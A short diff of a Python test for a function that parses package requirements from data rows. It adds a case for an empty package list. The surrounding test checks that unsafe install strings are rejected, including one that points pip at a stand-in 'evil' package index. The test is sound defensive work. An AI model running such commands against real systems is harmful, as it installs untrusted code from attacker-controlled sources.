@@ -432,6 +432,7 @@ def test_dependencies_come_from_the_row_else_the_repository_metadata():
         (["numpy==1.26", "requests==2.0 ; python_version > '3'", "tomli"], "field 'install'")
     assert venvs.row_requirements({"pip_packages": "a b==2"}, files.get) == (["a", "b==2"], "field 'pip_packages'")
     assert venvs.row_requirements({"requirements": "x\ny\n"}, files.get) == (["x", "y"], "field 'requirements'")
+    assert venvs.row_requirements({"pip_packages": []}, files.get) == ([], "field 'pip_packages' (empty)")  # no venv, metadata unread
     assert venvs.row_requirements({}, files.get) is None
     for bad in ("python setup.py develop", "pip install --index-url http://evil x", "pip install -e git+https://x/y"):
         with pytest.raises(venvs.VenvError):
